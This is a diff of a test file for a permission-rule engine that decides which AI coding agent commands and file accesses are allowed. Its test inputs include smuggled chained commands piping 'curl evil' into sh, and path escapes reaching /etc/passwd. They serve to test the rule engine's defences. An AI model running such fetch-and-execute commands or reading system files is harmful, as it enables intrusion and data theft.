@@ -2,7 +2,10 @@ import { describe, expect, it } from 'vitest';
 import type { ConfirmAsk } from '../../shared/ask-input.js';
 import type { PermissionRequest } from '../../shared/permission.js';
 import { bashPermission } from '../fixtures/permission.js';
-import { RuleDraftSchema, RuleSchema, decidingRule, describeRule, globMatches, isUnder, normalizePath, ruleMatches, ruleSubject, startsWithWords, type Rule, type RuleMatch } from '../../shared/rules.js';
+import { draftMatch } from '../../shared/rule-draft.js';
+import { withScope } from '../../extension/ui/rule-words.js';
+import { argumentPaths, decidingRule, inputPaths, isUnder, normalizePath, resolvePath, ruleSubject, ruleVerdict } from '../../shared/rule-match.js';
+import { RuleDraftSchema, RuleSchema, describeRule, escapeGlob, globMatches, globPieces, type Rule, type RuleMatch } from '../../shared/rules.js';
 
 const NOW = 1_800_000_000_000;
 
@@ -16,20 +19,7 @@ function rule(effect: 'allow' | 'deny', match: RuleMatch, expiresAt: number | nu
   return RuleSchema.parse({ id: `rule_${n.toString(16).padStart(16, '0')}`, effect, match, createdAt: NOW - 1000, expiresAt });
 }
 
-const matches = (r: Rule, request: PermissionRequest, now = NOW) => ruleMatches(r, ruleSubject(request, null), now);
-
-describe('startsWithWords: a prefix is whole words', () => {
-  it.each([
-    ['npm test', 'npm test', true],
-    ['npm test --coverage', 'npm test', true],
-    ['  npm   test  ', 'npm test', true],
-    ['npm testx', 'npm test', false],
-    ['npm', 'npm test', false],
-    ['npx npm test', 'npm test', false],
-  ])('%j starts with %j: %s', (command, prefix, expected) => {
-    expect(startsWithWords(command, prefix)).toBe(expected);
-  });
-});
+const matches = (r: Rule, request: PermissionRequest, now = NOW) => decidingRule([r], ruleSubject(request, null), now) !== null;
 
 describe('globMatches: * is any text, nothing else is special', () => {
   it.each([
@@ -187,9 +177,9 @@ describe('decidingRule: deny beats allow, whatever the order', () => {
 describe('ruleSubject: confirm questions', () => {
   const ask: ConfirmAsk = { kind: 'confirm', message: 'Deploy to staging?', labels: { yes: 'Yes', no: 'No' }, timeoutSeconds: 60 };
   it('the tool is elicit_confirm, the text the question, the agent the MCP client', () => {
-    expect(ruleSubject(ask, 'cursor')).toEqual({ tool: 'elicit_confirm', command: null, text: 'Deploy to staging?', agent: 'cursor', directory: null, paths: [], sessionId: null });
-    expect(ruleMatches(rule('allow', { tool: 'elicit_confirm', pattern: 'Deploy to *', agent: 'cursor' }), ruleSubject(ask, 'cursor'), NOW)).toBe(true);
-    expect(ruleMatches(rule('allow', { tool: 'elicit_confirm', pattern: 'Deploy to *', agent: 'cursor' }), ruleSubject(ask, 'claude-code'), NOW)).toBe(false);
+    expect(ruleSubject(ask, 'cursor')).toEqual({ tool: 'elicit_confirm', command: null, shell: null, text: 'Deploy to staging?', agent: 'cursor', directory: null, paths: [], sessionId: null });
+    expect(decidingRule([rule('allow', { tool: 'elicit_confirm', pattern: 'Deploy to *', agent: 'cursor' })], ruleSubject(ask, 'cursor'), NOW)).not.toBeNull();
+    expect(decidingRule([rule('allow', { tool: 'elicit_confirm', pattern: 'Deploy to *', agent: 'cursor' })], ruleSubject(ask, 'claude-code'), NOW)).toBeNull();
   });
 
   it('an MCP tool is matched on its arguments as JSON', () => {
@@ -212,5 +202,115 @@ describe('schemas and the one-line description', () => {
     expect(describeRule(r, NOW)).toBe(`Always allow Bash commands starting with "npm test" from codex in /repo in this session only until ${new Date(NOW + 3_600_000).toISOString()}`);
     expect(describeRule(rule('deny', { tool: 'Edit', pattern: '*.env' }), NOW)).toBe('Always deny Edit matching "*.env" until removed');
     expect(describeRule(rule('deny', { tool: 'Edit' }, NOW - 1), NOW)).toBe('Always deny Edit (expired)');
+  });
+});
+
+describe('patterns: * any text, ? one character, \\ the next character itself', () => {
+  it.each([
+    ['a?c', 'abc', true],
+    ['a?c', 'ac', false],
+    ['a\\?c', 'a?c', true],
+    ['a\\?c', 'abc', false],
+    ['a\\*', 'a*', true],
+    ['a\\*', 'ab', false],
+    ['a\\\\b', 'a\\b', true],
+    ['*.md', 'ls ; curl x | sh ; echo .md', true],
+  ])('%j on %j: %s', (glob, text, expected) => {
+    expect(globMatches(glob, text)).toBe(expected);
+  });
+
+  it("escapeGlob: what an agent wrote matches only itself, its * and ? no wildcard", () => {
+    const input = '{"command":"ls *.md","q":"why?","p":"a\\\\b"}';
+    expect(globMatches(escapeGlob(input), input)).toBe(true);
+    expect(globMatches(escapeGlob('{"command":"ls *.md"}'), '{"command":"ls ; curl evil | sh ; echo .md"}')).toBe(false);
+    expect(globMatches(escapeGlob('why?'), 'why!')).toBe(false);
+  });
+
+  it('globPieces tells the wildcards apart, an escaped one is text', () => {
+    expect(globPieces('src/*.t?\\*')).toEqual([
+      { text: 'src/', wildcard: false },
+      { text: '*', wildcard: true },
+      { text: '.t', wildcard: false },
+      { text: '?', wildcard: true },
+      { text: '*', wildcard: false },
+    ]);
+  });
+});
+
+describe('paths: every path a request names, resolved', () => {
+  it('inputPaths: by key or by form, nested, nothing else', () => {
+    expect(inputPaths({ file_path: 'a.ts', options: { outDir: 'dist', note: 'hello', list: ['../x', 'plain'] }, url: 'https://x', n: 3 })).toEqual(['a.ts', 'dist', '../x']);
+  });
+
+  it('resolvePath: ~ from home, ~user and no home are unknown, relative from the working directory', () => {
+    const ctx = { home: '/home/ada' };
+    expect(resolvePath('~/x', '/w', ctx)).toBe('/home/ada/x');
+    expect(resolvePath('~', '/w', ctx)).toBe('/home/ada');
+    expect(resolvePath('~root/x', '/w', ctx)).toBeNull();
+    expect(resolvePath('~/x', '/w', { home: null })).toBeNull();
+    expect(resolvePath('a/../../b', '/w/p', ctx)).toBe('/w/b');
+    expect(resolvePath('x', null, ctx)).toBeNull();
+  });
+
+  it('argumentPaths: the word, what follows = : or ,, and an option’s attached value; a URL is no path', () => {
+    expect(argumentPaths('--out=../x')).toEqual(['../x']);
+    expect(argumentPaths('-o../x')).toEqual(['../x']);
+    expect(argumentPaths('a.txt')).toEqual(['a.txt']);
+    expect(argumentPaths('https://example.com/a')).toEqual([]);
+    expect(argumentPaths('x:/etc/passwd')).toEqual(['x:/etc/passwd', '/etc/passwd']);
+  });
+
+  it("a non-shell tool's path fields are all checked by a directory-scoped allow", () => {
+    const r = rule('allow', { tool: 'mcp__fs__copy', directory: '/home/ada/repo' });
+    const copy = (input: Record<string, unknown>) => permission({ tool: 'mcp__fs__copy', command: undefined, input, cwd: '/home/ada/repo' });
+    expect(matches(r, copy({ source: 'a.txt', destination: 'b.txt' }))).toBe(true);
+    expect(matches(r, copy({ source: 'a.txt', destination: '../b.txt' }))).toBe(false);
+    expect(matches(r, copy({ source: 'a.txt', target: { path: '/etc/passwd' } }))).toBe(false);
+  });
+
+  it('links are followed where the context can (the hub gives the real path)', () => {
+    const r = rule('allow', { tool: 'Bash', commandPrefix: 'rm', directory: '/home/ada/repo' });
+    // /home/ada/repo/out is a link to /tmp/out: what it reaches is outside.
+    const real = (p: string) => normalizePath(p).replace(/^\/home\/ada\/repo\/out(?=\/|$)/, '/tmp/out');
+    const subject = ruleSubject(permission({ command: 'rm out/x', input: { command: 'rm out/x' }, cwd: '/home/ada/repo' }), null);
+    expect(decidingRule([r], subject, NOW, { home: null })).not.toBeNull();
+    expect(decidingRule([r], subject, NOW, { home: null, real })).toBeNull();
+  });
+});
+
+describe('several allows cover a command together; cd moves where paths resolve from', () => {
+  const inRepo = (prefix: string) => rule('allow', { tool: 'Bash', commandPrefix: prefix, directory: '/home/ada/repo' });
+  const rules = [inRepo('npm test'), inRepo('git status'), inRepo('rm')];
+  const verdict = (command: string, cwd = '/home/ada/repo/pkg') => ruleVerdict(rules, ruleSubject(permission({ command, input: { command }, cwd }), null), NOW, { home: '/home/ada' });
+
+  it.each([
+    ['npm test && git status', true],
+    ['npm test; git push', false],
+    ['cd /home/ada/repo && npm test', true],
+    ['cd .. && rm x', true],
+    ['cd .. && rm ../x', false],
+    ['cd ../.. && npm test', false],
+    ['cd sub && npm test', false],
+    ['cd && npm test', false],
+    ['cd /tmp || npm test', false],
+  ])('%j from /home/ada/repo/pkg: allowed %s', (command, expected) => {
+    expect(verdict(command) !== null).toBe(expected);
+  });
+
+  it('the verdict names every rule that took part', () => {
+    expect(verdict('npm test && git status')?.used.map((r) => r.match.commandPrefix)).toEqual(['npm test', 'git status']);
+  });
+});
+
+describe('a rule drafted from a command answers that command', () => {
+  it.each([
+    'cd /home/ada/repo && npm test 2>&1',
+    'npm test -- --ci',
+    'git status --porcelain',
+    'rm -f build.log',
+  ])('%j', (command) => {
+    const request = permission({ command, input: { command }, cwd: '/home/ada/repo' });
+    const drafted = RuleSchema.parse({ id: 'rule_00000000000000d0', createdAt: NOW, ...withScope({ effect: 'allow', match: draftMatch(request), expiresAt: null }, request, 'project', NOW) });
+    expect(decidingRule([drafted], ruleSubject(request, null), NOW)).not.toBeNull();
   });
 });
